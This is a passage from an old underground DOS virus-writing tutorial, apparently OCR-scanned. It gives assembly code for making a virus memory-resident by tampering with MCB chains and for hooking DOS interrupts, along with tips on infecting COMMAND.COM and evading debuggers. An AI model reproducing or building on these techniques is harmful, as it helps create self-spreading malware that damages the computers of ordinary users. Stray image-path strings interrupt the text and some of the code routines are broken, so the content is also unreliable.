    Get Int 21h... [etc]

...and take them as something fishy going on. Cracker Jack likes this method, and it's very easy. I'll give you the code... (again off the top of my head. Sue me if I make a mistake)

  go_TSR:         mov ah, 49h             ; release block at ES
                  int 21h
                  mov ah, 48h
                  mov bx, 0ffffh          ; all of memory (induces error,
                  int 21h                 ; memory available in BX)
                  sub bx, v_len/16+2      ; v_len into paragraphs
                  mov ah, 48h
                  int 21h                 ; allocate just short of TOM
                  mov bx, v_len/16+1
                  mov ah, 48h
                  int 21h                 ; and up to TOM
                  sub ax, 10h
                  mov es, ax
                  mov di, 100h
                  (SI points to virus start)
                  mov cx, v_len
                  rep movsb

Faking ownership

The above manoever (or however you spell it) is good -- upto a point. But when you restore control to the host, and it exits, you lose the memory! So how do I get it back, or not lose it in the first place?!

Easy. There are things called MCBs (Memory Control Blocks) which let MS-DOS easily control the memory available. Now, with us being the unscrupulous bastards we are, we simply change the ownership of the block to some other stupid program.

But firstly, the layout of the MCB chains...

00 'M' or 'Z' (Middle or End block)
01 Segment of owner (must be correct or will be lost)
03 Size in paragraphs/relative offset to next MCB
05 other crap which doesn't concern us

This mysterious MCB block is ALWAYS situated at the segment PSP-1 or whatever. The value returned in AX by fn 48h (Allocate Memory) is the memory you can actually use -- to lay bare the MCB to get our greasy hands onto, simply DEC AX and move it into a segment register to reference it.

Great. We know WHAT an MCB is -- how do we dump ownership onto something else?There is such a call as Get Internal Table Address. This internal table is a handy thing, and is not documented in many places at all. Fortunately I will tell you the most important thing we are interested at the moment -- it tells us the first MCB block!

To get the Internal Table Address, simply do this...

        mov ah, 52h
        int 21hThis will return the ITA as a pointer, in ES:BX. The value for the first MCB is at [-2], so to get:

        mov di, bx
        mov ax, es:[di-2]

I'm pretty sure you don't need the segment override but I thoughtI'd leave it in for good measure. Your assembler would be stupid if it left it in there...

But what about putting it all together? OK then here goes.

  go_TSR:         mov ah, 49h             ; release block at ES
                  int 21h
                  mov ah, 48h
                  mov bx, 0ffffh          ; all of memory (induces error,
                  int 21h                 ; memory available in BX)
                  sub bx, v_len/16+2      ; v_len into paragraphs
                  mov ah, 48h
                  int 21h                 ; allocate just short of TOM
                  mov bx, v_len/16+1
                  mov ah, 48h
                  int 21h                 ; and up to TOM
                  sub ax, 10h             ; could be 0f, don't know
                  mov es,ax
                  mov di, 100h
                  (SI points to virus start)
                  mov cx, v_len
                  rep movsb
                  push es
                  mov ah, 52h
                  int 21h
                  mov di, bx
                  mov ax, word ptr [di-2]
                  pop bx
                  add bx, 10h
                  dec bx             ; yeah change these two to SUB BX, 0f
                  mov es, bx
                  mov es:[1], ax          ; change ownership
                  mov ax, es
                  sub ax, 0fh
                  mov es, ax
                  mov ax, offset next_bit
                  push es
                  push axnext_bit:       [...]

Then you can do whatever you were going to do...

Viruses which use this technique:

Shortening last block manually

This is my tried and true method. I developed it a while ago then found out that TP4xVIR all used it and so does Keypress. Cunts.

This involves some Kmart handywork on the MCB chain. It is really simple. It has the advantage of not showing up on debuggers which just trap interrupts, and DOS hasn't a clue where the fuck its memory has disappeared to -- therefore nothing can write over your code. I love this one. All my viruses use it (except if they become resident from the partition table or boot sector).

The basic idea is to find the MCB chain and follow it to the Z (end) block, then shortening the length by however many paragraphs you need. From this you work out the destination segment and off you go.

  find_MCB:       mov ax, es              ; ES is PSP or whatever
                  dec axfmcb1:          mov es, ax
                  cmp byte ptr es:[0], 'M'
                  jne fmcb2
                  add ax, word ptr es:[3]
                  jmp fmcb1
  fmcb2:          sub word ptr [3], s_len         ; # paragraphs to shorten by
                  add ax, word ptr [3]
                  sub ax, 10h
                  mov es, ax
                  push cs
                  pop ds
                  mov di, 100h
                  mov cx, v_len
                  rep movsb

Nice and short isn't it! (I wish I made it this good in my actual virus. Check out how I did it in NF30, it's not quite this good. Maybe I fuckedthis one up. I'll check that some time later).

Viruses which use this technique:

Hooking interrupts

Nothing works unless it's pulled together by interrupt handlers. But even an interrupt handler doesn't work if it doesn't get called! (duhh) All viruses hook interrupts in one way or another. Maybe they don't actually hook them, but modify DOS or whatever so they are called. Anyway here's the idea.

Direct vs. Dos Call

Now you might think you're cool by getting your virus TSR, hooking interrupts and restoring control properly without making a single DOS call. That in itself it okay. BUT -- and it's a big but -- you can't infect COMMAND.COM if you do this! This is a major setback, because if you can't, there's much less likelihood of all files in the AUTOEXEC.BAT becoming infected or the DOS shell programs, etc. If you can get them resident as early as possible, it is a good start -- and COMMAND.COM is a good a place as any.

Of course this only applies to int 21h (DOS calls) and other DOS interrupts. All other interrupts can be revectored any way you want.

To revector a vector directly, youfollow something like this:

                  xor ax, ax
                  mov ds, ax
                  mov di, offset save_int_xx      ; int xx
                  mov si, xx*4movsw                           ; save it
                  sub si, 4
                  mov ax, offset ixx_handler
                  mov word ptr [si], ax
                  mov word ptr [si+2], cs
                  [and any other int revectors here]
                  push cs
                  pop dsRemember learning all about Intel's reverse ordering? In the vector table, as in all other places, the most important bits go first -- in this case, the actual pointer, then the segment.

You might think that MOV AX, XX then MOV [SI], AX could be converted to a smaller statement as MOV [SI], XX. They end up being the same anyway. But if you were using another register besides AX, it would actually be bigger -- some operations are smaller when they use the AX register. Don't blame me, blame Intel.

Revectoring using DOS calls is much more conspicuous to the int trapping debugger, but it's a small price to pay. If they're losers they won't know how to stop it, then the damage is done and they have the virus. (The code is also much simpler).

                  mov ax, 35xxh           ; get int
                  int 21h
                  mov [save_int_xx], bx
                  mov [save_int_xx+2], es
                  mov dx, offset ixx_handler
                  mov ax, 25xxh           ; set intint 21h
                  [and any other int revectors here]
                  push cs
                  pop es

Modifying Code

This is getting a bit more tricky. The idea here is instead of revectoring the interrupt on the vector table, simply edit the code pointed to by the vector to jump to your own code. Sounds simple?

It is, but there are sometimes problems. For instance, what if the code isn't for 5 contiguous bytes? (you need 5: 1 for the JMPF, 4 for the address). You would overwrite some other code, most likely code for the next interrupt it handles. Not good. Maybe you should check for things such as IRETs, RETFs, JMPs etc. in the first 5 bytes. After 5, who gives a shit.Upon entry to your interrupt handler, you must restore the original 5 bytes so we can call DOS. This is where we must think a bit more carefully. If we restore the original 5, we must somehow change them again to call our code. Simple...

Upon entry to our interrupt handler, we must restore the original 5. If it's not a call we're interested in, go to a routine which consists of the following:

                  call dword ptr cs:[save_int_xx]
                  call fix_int            ; change code again to JMPF
                  retf 2

What is RETF 2? Well, most of you probably know that you can accompany a RET or a RETF with an optional operand -- the equivalent of the instruction and the ADD SP, xx. eg. RETF 2 it the equivalent of RETF/ADD SP, 02. This way we return to the caller with the flags which are current and not those that were current at the actual call. (get my drift?)You don't? OK then. When an int is called, it's the same as doing the equivalent of...

                  push cs
                  push ip
                  jmpdword ptr 0:int*4

                  ...and the IRET is the equivalent of...
                  pop ip
                  pop cs
                  popf therefore the flags which were current when the INT call was made will be there when it returns. Interrupt handlers set things like CF by getting the old flags and setting it, then "patching" them back onto the stack, with the code...

                  push bp
                  mov bp, sp
                  push [bp+6]
                  pop ax
                  mov [bp+6], ax
                  pop bp

So back to where we were. We're in our interrupt handler, we've just called the old vector. Our updated flags are current, but if we IRET we'll lose them. So, going back to the RETF 2 -- instead of restoring the old flags (as in the IRET instruction) we'll just be doing...pop ip
        pop cs
        add sp, 02

Got it?

(I didn't intend on going on a stack lesson, but anyway...)

Anyway, here's your layout:

  ixx_handler:    push xx
                  push [..etc]
                  push cs
                  pop ds
                  les di, [save_int_xx]   ; load up vector to ES:DI
                  mov si, offset old_5_xx
                  movsb                   ; restore 5 bytes

                  cmp ah, wanted calls
                  jne not_wanted


  not_wanted:     pop xx
                  pop [..etc]
                  call dword ptr cs:[save_int_xx]
  fix_int:        push es
                  push di
                  push ax
                  les di, cs:[save_int_xx]
                  mov al, 0eah            ; JMPF xxxx:yyyy
                  mov ax, offset ixx_handler
                  mov ax, cs
                  pop ax
                  pop di
                  pop es
                  retf 2Viruses which use this technique:

None (this will change in the near future)

Modifying DOS

Some smart-arse pricks know that they can modify certain bits within DOS itself so that their routines will be called. They guy who wrote the Fish and Whale viruses knows. The guys who wrote MG-1, 2, 3 and Creeping Death know. Dark Avenger knows.

In my opinion it's not always the most intelligent thing to do, considering DOS stuff is likely to keep changing. But if you find the right bits and know what to look for, you have a virtually failsafe way.

I can't tell you because I don't know!

If you're super desperate and need to know, post something to the Matematicheska Gimnazia school (in Bulgaria) and ask for the guys who wrote Creeping Death to send you their commented source codes... (ever seen the Creeping Death source? Shot out their fingers like a machine gun... the guys don't look too talkative with commenting like that).

If not, grab the MG-1 virus or the Fish#6 virus and wade through that with a decent debugger. Dark Avenger seems to know as well, and he just loves those multiplex interrupts which nobody seems to know about <sigh>.

If anyone DOES know, could they please drop me a line in CelerityNet Private Netmail some time? (no abuse please!)

Interrupt handlers

We're approaching the arse-end of the text file. You're all high and dandy waiting to rip into your new TSR COM and EXE infector. But shit, you have no idea of how to string the whole lot together, do you!?Here's a bunch of codes and bullshit as long as John Holmes' dick about them, how to write them and stuff. I'm fucking tired.

Timer interrupts

Earlier I crapped on about timing, waiting after 30 minutes, pausing for a few seconds after prank messages and stuff. How the fuck do you do it?

